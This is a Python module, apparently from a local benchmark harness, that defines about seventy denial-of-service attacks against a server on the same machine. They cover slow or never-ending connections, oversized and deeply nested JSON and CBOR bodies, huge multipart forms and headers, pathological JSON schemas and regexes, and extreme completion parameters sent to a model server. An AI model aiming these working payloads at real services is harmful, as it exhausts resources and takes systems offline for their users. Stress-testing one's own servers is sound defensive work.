"""
The attacks: each repeats one hostile action against a server on this machine, for a bounded time.

    python -m benchmarks.attack.attacks NAME PORT SECONDS      (`run` starts it like this, in a separate process)
"""

import asyncio
import gzip
import itertools
import json
import resource
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from time import perf_counter

from benchmarks.harness.servers import HOST

MIB = 1024 * 1024
MAX_ANSWER_BYTES = 64 * 1024
_FORM = "application/x-www-form-urlencoded"
_JSON_CALL = "X-Amz-Target: SageMaker.CreateModel\r\n"
_LIST_CALL = "X-Amz-Target: SageMaker.ListModels\r\n"
_IMAGE = "763104351884.dkr.ecr.us-east-1.amazonaws.com/huggingface-pytorch-tgi-inference:2.7.0-tgi3.3.6-gpu-py311"
_CBOR_CALL = "smithy-protocol: rpc-v2-cbor\r\n"
_CBOR_PATH = "/service/GraniteServiceVersion20100801/operation/PutMetricData"
_CONTROL_BYTES = 4 * MIB - 1024
_COMPLETIONS, _CHAT = "/v1/completions", "/v1/chat/completions"

Attack = Callable[[int, float], Awaitable[int]]
"""Takes the port and the time to end at (`perf_counter`); returns how often it acted."""


def head(path: str, num_bytes: int, more: str = "", *, content_type: str = "application/json") -> bytes:
    """Return the head of a request with a body."""
    return (
        f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {num_bytes}\r\n{more}\r\n"
    ).encode()


async def send(port: int, data: bytes, *, answer_bytes: int = MAX_ANSWER_BYTES) -> bytes:
    """Send bytes on a new connection, and read the beginning of the answer."""
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(data)
        await writer.drain()
        return await asyncio.wait_for(reader.read(answer_bytes), 60)
    except (OSError, TimeoutError):
        return b""
    finally:
        writer.close()


def repeated(data: bytes, *, at_once: int = 2) -> Attack:
    """Send the same bytes, `at_once` at a time."""
    return varied(lambda _: data, at_once=at_once)


def varied(make: Callable[[int], bytes], *, at_once: int = 2) -> Attack:
    """Send the bytes that `make` returns for 0, 1, 2 and so on, `at_once` at a time."""

    async def attack(port: int, ends_s: float) -> int:
        numbers = itertools.count()

        async def client() -> int:
            count = 0
            while perf_counter() < ends_s:
                with suppress(OSError):
                    answer = await send(port, make(next(numbers)))
                    count += 1
                    if count == 1:
                        print(answer.partition(b"\r\n")[0].decode(), file=sys.stderr)
            return count

        return sum(await asyncio.gather(*(client() for _ in range(at_once))))

    return attack


def body(path: str, content: bytes, *, at_once: int = 2) -> Attack:
    return repeated(post(path, content), at_once=at_once)


def post(path: str, content: bytes) -> bytes:
    return head(path, len(content), "Connection: close\r\n") + content


def aws(content: bytes, *, path: str = "/", call: str = _JSON_CALL) -> Attack:
    """Call an AWS operation of a platform; a server answers 404."""
    return repeated(head(path, len(content), call + "Connection: close\r\n") + content)


def form(content: bytes, content_type: str, *, path: str = "/invocations") -> Attack:
    """Send a form to a server of a model's own code, or to another path."""
    return repeated(head(path, len(content), "Connection: close\r\n", content_type=content_type) + content)


def multipart(part: bytes, num_parts: int) -> Attack:
    return form(b"--B\r\n%b\r\n\r\nx\r\n" % part * num_parts + b"--B--", "multipart/form-data; boundary=B")


def unsigned(query: str = "", headers: str = "") -> Attack:
    """Send a request that a platform with keys refuses."""
    return repeated(
        f"GET /b/k?{query} HTTP/1.1\r\nHost: {HOST}\r\n{headers}Connection: close\r\n\r\n".encode(), at_once=4
    )


def stored_models(count: int) -> Attack:
    """Store models with as much environment as SageMaker accepts, whatever time it takes."""
    environment = {f"k{number}": "x" * 900 for number in range(35)}

    async def attack(port: int, _ends_s: float) -> int:
        for number in range(count):
            container = {"Image": _IMAGE, "Environment": environment}
            call = json.dumps({"ModelName": f"stored-{number}", "PrimaryContainer": container}).encode()
            await send(port, head("/", len(call), _JSON_CALL + "Connection: close\r\n") + call)
        return count

    return attack


def chunked(path: str, num_chunks: int) -> Attack:
    """Send a body of JSON's white space in chunks of one byte."""
    start = f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    return repeated(start.encode() + b"1\r\n \r\n" * num_chunks + b"0\r\n\r\n")


def completion(**fields: object) -> bytes:
    """Return a completion that has hostile fields."""
    return json.dumps({"model": "model", "prompt": "a", "max_tokens": 4, **fields}).encode()


def completing(*, at_once: int = 2, **fields: object) -> Attack:
    """Ask for a completion with hostile fields."""
    return body(_COMPLETIONS, completion(**fields), at_once=at_once)


def chat(**fields: object) -> bytes:
    """Return a chat that has hostile fields."""
    message = {"role": "user", "content": "a"}
    return json.dumps({"model": "model", "messages": [message], "max_tokens": 4, **fields}).encode()


def chatting(content: str = "a", *, count: int = 1, path: str = _CHAT, **fields: object) -> Attack:
    """Chat with hostile messages or fields."""
    return body(path, chat(messages=[{"role": "user", "content": content}] * count, **fields))


def schema(content: object) -> bytes:
    """Return a chat whose answer must match a schema."""
    return chat(response_format={"type": "json_schema", "json_schema": {"name": "x", "schema": content}})


def answering(content: object) -> Attack:
    """Ask for an answer that matches a schema."""
    return body(_CHAT, schema(content))


async def connected(port: int, *, window_bytes: int = 0) -> asyncio.StreamWriter:
    """Connect; a small window leaves what is not read with the server instead of the kernel."""
    sock = socket.socket()
    if window_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window_bytes)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (HOST, port))
    _, writer = await asyncio.open_connection(sock=sock, limit=1024)
    return writer


def held(
    num_connections: int, first: bytes, *, drip: bytes = b"", reads: bool = False, window_bytes: int = 0
) -> Attack:
    """Keep many connections open after sending `first`, and drip a few bytes a second into each."""

    async def attack(port: int, ends_s: float) -> int:
        connections = []
        for _ in range(num_connections):
            with suppress(OSError):
                writer = await connected(port, window_bytes=window_bytes)
                if not reads:
                    writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(first)
                connections.append(writer)
        while perf_counter() < ends_s:
            await asyncio.sleep(1)
            for writer in connections:
                if drip and not writer.is_closing():
                    writer.write(drip)
        for writer in connections:
            writer.transport.abort()
        return len(connections)

    return attack


async def opened_and_closed(port: int, ends_s: float) -> int:
    count = 0
    while perf_counter() < ends_s:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(HOST, port)
            writer.close()
            count += 1
    return count


def wide(num_properties: int, *, prefix: str = "p") -> object:
    """A schema of one object with many properties."""
    return {"type": "object", "properties": {f"{prefix}{i}": {"type": "string"} for i in range(num_properties)}}


def deep(levels: int) -> object:
    """Return a schema of nested objects."""
    inner: object = {"type": "string"}
    for _ in range(levels):
        inner = {"type": "object", "properties": {"a": inner}, "required": ["a"]}
    return inner


_STREAM = completion(prompt="Tell me a long story.", max_tokens=2000, ignore_eos=True, stream=True)
_PING = f"GET /health HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
_PAGE_FILE = f"GET /console/web/vendor/katex/katex.min.js HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
_CREDENTIAL = "AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/s3/aws4_request"
_RECURSIVE = {
    "$defs": {"n": {"type": "object", "properties": {"l": {"$ref": "#/$defs/n"}, "r": {"$ref": "#/$defs/n"}}}}
}
_MANY_TOOLS = [
    {"type": "function", "function": {"name": f"f{i}", "description": "d" * 2000, "parameters": deep(30)}}
    for i in range(200)
]

ATTACKS: dict[str, Callable[[], Attack]] = {
    "nothing": lambda: held(0, b""),
    "AWS call: JSON of 1 million empty objects": lambda: aws(
        b'{"ModelName":"a","Containers":[' + b"{}," * (_CONTROL_BYTES // 3) + b"{}]}"
    ),
    "AWS call: JSON of 350,000 variables": lambda: aws(
        b'{"PrimaryContainer":{"Environment":{' + b",".join(b'"%x":""' % i for i in range(350_000)) + b"}}}"
    ),
    "AWS call: JSON under the limits": lambda: aws(
        b'{"ModelName":"a","Containers":[' + b'{"Image":"a"},' * 49_000 + b"{}]}"
    ),
    "AWS call: CBOR of 4 million empty lists": lambda: aws(
        b"\xa1\x61x\x9f" + b"\x80" * _CONTROL_BYTES + b"\xff", path=_CBOR_PATH, call=_CBOR_CALL
    ),
    "AWS call: CBOR under the limits": lambda: aws(
        b"\xa1\x61x\x9f" + b"\x80" * 49_000 + b"\xff", path=_CBOR_PATH, call=_CBOR_CALL
    ),
    "AWS call: 4 MB that gzip packs into 4 KB": lambda: aws(
        gzip.compress(b'{"x":[' + b"[]," * (_CONTROL_BYTES // 3) + b"[]]}"),
        call=_JSON_CALL + "Content-Encoding: gzip\r\n",
    ),
    "form without a key: an action of 1 MB": lambda: form(b"Action=" + b"%41" * 340_000, _FORM, path="/"),
    "form without a key: 250,000 fields": lambda: form(b"a=%41&" * 170_000 + b"Action=GetRole", _FORM, path="/"),
    "URL without a key: 8,000 parameters": lambda: unsigned("%41&" * 3900 + "AWSAccessKeyId=a&Signature=b"),
    "header without a key: 8,000 signed headers": lambda: unsigned(
        headers=f"Authorization: {_CREDENTIAL}, SignedHeaders={'a;' * 16_000}host, Signature=x\r\n"
    ),
    "token without a key: 60 KB of base64": lambda: unsigned(
        headers=f"Authorization: Bearer sagemaker-api-key-{'QUFB' * 15_000}\r\n"
    ),
    "form of a handler: a boundary of 60,000 semicolons": lambda: form(
        b"--x", 'multipart/form-data; boundary="' + ";" * 60_000
    ),
    "form of a handler: 100 parts of 15,900 semicolons": lambda: multipart(
        b"Content-Disposition: form-data; " + b";" * 15_900, 100
    ),
    "form of a handler: 999 parts under the limits": lambda: multipart(
        b"\r\n".join([b"Content-Disposition: form-data" + b"; a=b" * 30] * 15), 999
    ),
    "form of a handler: parts of 3,000 headers": lambda: multipart(b"\r\n".join([b"a:b"] * 3000), 100),
    "form of a handler: a field of 6 MB": lambda: form(b"a=" + b"%41" * 2_000_000, _FORM),
    "memory: 2000 models of 32 KB": lambda: stored_models(2000),
    "memory: 16 lists of one of these models": lambda: repeated(
        head("/", 17, _LIST_CALL + "Connection: close\r\n") + b'{"MaxResults": 1}', at_once=16
    ),
    "memory: 100 responses of 24 MB, not read": lambda: held(
        100, post("/endpoints/model/invocations", b'{"num_bytes": 24000000}')
    ),
    "memory: 3000 connections with 33 page files each, not read": lambda: held(
        3000, _PAGE_FILE * 33, window_bytes=4096
    ),
    "8 million empty lists for a model": lambda: body(
        _COMPLETIONS, b'{"model":"model","x":[' + b"[]," * 8_000_000 + b"[]]}"
    ),
    "malformed heads": lambda: repeated(b"\x00\x01 no http\r\n\r\n", at_once=8),
    "heads of 64 KB": lambda: repeated(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 66_000 + b"\r\n\r\n", at_once=4),
    "10,000 headers": lambda: repeated(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a:\r\n" * 10_000 + b"\r\n", at_once=4),
    "pipelines of 6,000 requests": lambda: repeated(_PING * 6000, at_once=4),
    "pipelines of 32 requests": lambda: repeated(_PING * 32, at_once=4),
    "bodies of 1 million chunks of a byte": lambda: chunked(_COMPLETIONS, 1_000_000),
    "bodies of 16,000 chunks of a byte": lambda: chunked(_COMPLETIONS, 16_000),
    "connections opened and closed": lambda: opened_and_closed,
    "700 slow heads": lambda: held(700, b"GET / HTTP/1.1\r\nHost: x\r\nX: ", drip=b"a"),
    "700 slow bodies": lambda: held(700, head(_COMPLETIONS, 10_000) + b"{", drip=b" "),
    "20 bodies of 25 MB, never ended": lambda: held(20, head(_COMPLETIONS, 25 * MIB) + b" " * (25 * MIB - 100)),
    "700 streams never read": lambda: held(700, head(_COMPLETIONS, len(_STREAM)) + _STREAM),
    "8 million empty lists": lambda: body(_COMPLETIONS, b'{"prompt":[' + b"[]," * 8_000_000 + b"[]]}"),
    "8 million empty lists in an unknown field": lambda: body(
        _COMPLETIONS, b'{"prompt":"a","x":[' + b"[]," * 8_000_000 + b"[]]}"
    ),
    "8 million empty lists in the template's values": lambda: body(
        _CHAT,
        b'{"messages":[{"role":"user","content":"a"}],"chat_template_kwargs":{"x":[' + b"[]," * 8_000_000 + b"[]]}}",
    ),
    "490,000 extreme floats in the template's values": lambda: body(
        _CHAT,
        b'{"messages":[{"role":"user","content":"a"}],"chat_template_kwargs":{"x":[' + b"1e308," * 490_000 + b"1]}}",
    ),
    "10,000 extreme floats in the template's values": lambda: body(
        _CHAT,
        b'{"messages":[{"role":"user","content":"a"}],"chat_template_kwargs":{"x":[' + b"1e308," * 10_000 + b"1]}}",
    ),
    "1.8 million fields": lambda: body("/generate", b"{" + b",".join(b'"%x":0' % i for i in range(1_800_000)) + b"}"),
    "nested 100,000 deep": lambda: body(_COMPLETIONS, b'{"prompt":"a","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "10 MB to /tokenize": lambda: body("/tokenize", json.dumps({"inputs": "many words, " * 850_000}).encode()),
    "24 MB to /tokenize": lambda: body("/tokenize", json.dumps({"inputs": "a b c d " * 3_000_000}).encode()),
    "10 MB to /chat_tokenize": lambda: chatting("ab " * 3_000_000, path="/chat_tokenize"),
    "10 MB prompt": lambda: completing(prompt="many words, " * 850_000),
    "10 MB prompt without spaces": lambda: completing(prompt="a" * 10_000_000),
    "10 MB prompt, cut to 8 tokens": lambda: completing(prompt="ab " * 3_000_000, truncate_prompt_tokens=8),
    "1 million token ids": lambda: completing(prompt=[5] * 1_000_000),
    "12 million token ids": lambda: body(_COMPLETIONS, b'{"prompt":[' + b"5," * 12_000_000 + b"5]}"),
    "100,000 prompts": lambda: completing(prompt=["a"] * 100_000),
    "100,000 messages": lambda: chatting(count=100_000),
    "10 MB message": lambda: chatting("ab " * 3_000_000),
    "200 nested tools": lambda: chatting(tools=_MANY_TOOLS),
    "huge chat_template_kwargs": lambda: chatting(chat_template_kwargs={f"k{i}": ["x"] * 20 for i in range(50_000)}),
    "100,000 stop strings": lambda: completing(stop=[f"s{i}" for i in range(100_000)]),
    "4,096 bad words": lambda: completing(bad_words=["a"] * 4096),
    "all token ids allowed": lambda: completing(allowed_token_ids=list(range(48_000))),
    "all token ids as stops of 8 answers": lambda: completing(
        stop_token_ids=list(range(48_000)), min_tokens=4, n=8, max_tokens=4
    ),
    "1 million stop_token_ids": lambda: completing(stop_token_ids=[5] * 1_000_000),
    "logit_bias of 300,000": lambda: completing(logit_bias={str(i): 1 for i in range(300_000)}),
    "huge numbers": lambda: body(_COMPLETIONS, b'{"prompt":"a","seed":' + b"9" * 5_000_000 + b"}"),
    "many huge floats": lambda: body(_COMPLETIONS, b'{"prompt":"a","x":[' + b"1e308," * 3_000_000 + b"1]}"),
    "invalid UTF-8": lambda: body(_COMPLETIONS, b'{"prompt":"' + b"\xff" * 20_000_000 + b'"}'),
    "n=128": lambda: completing(n=128, best_of=128, max_tokens=500, at_once=8),
    "schema 2,000 deep": lambda: answering(deep(2000)),
    "schema of 20,000 properties": lambda: answering(wide(20_000)),
    "schemas of 20,000 properties, all different": lambda: varied(
        lambda number: post(_CHAT, schema(wide(20_000, prefix=f"{number}-")))
    ),
    "schemas of 2,900 properties, all different": lambda: varied(
        lambda number: post(_CHAT, schema(wide(2_900, prefix=f"{number}-")))
    ),
    "enum of 50,000": lambda: answering({"enum": [f"value {i}" for i in range(50_000)]}),
    "recursive schema": lambda: answering({**_RECURSIVE, "$ref": "#/$defs/n"}),
    "exponential pattern": lambda: answering({"type": "string", "pattern": "^((a|b)*a(a|b){14}){30}$"}),
    "pattern of 1,000 repeats of 1,000": lambda: answering(
        {"type": "string", "pattern": "^((.{1,1000}){1,1000}){1,1000}$"}
    ),
}


def main() -> None:
    sys.setrecursionlimit(50_000)  # for the schema that is 2,000 deep
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = asyncio.run(ATTACKS[name]()(port, perf_counter() + seconds))
    print(json.dumps({"count": count}))


if __name__ == "__main__":
    main()
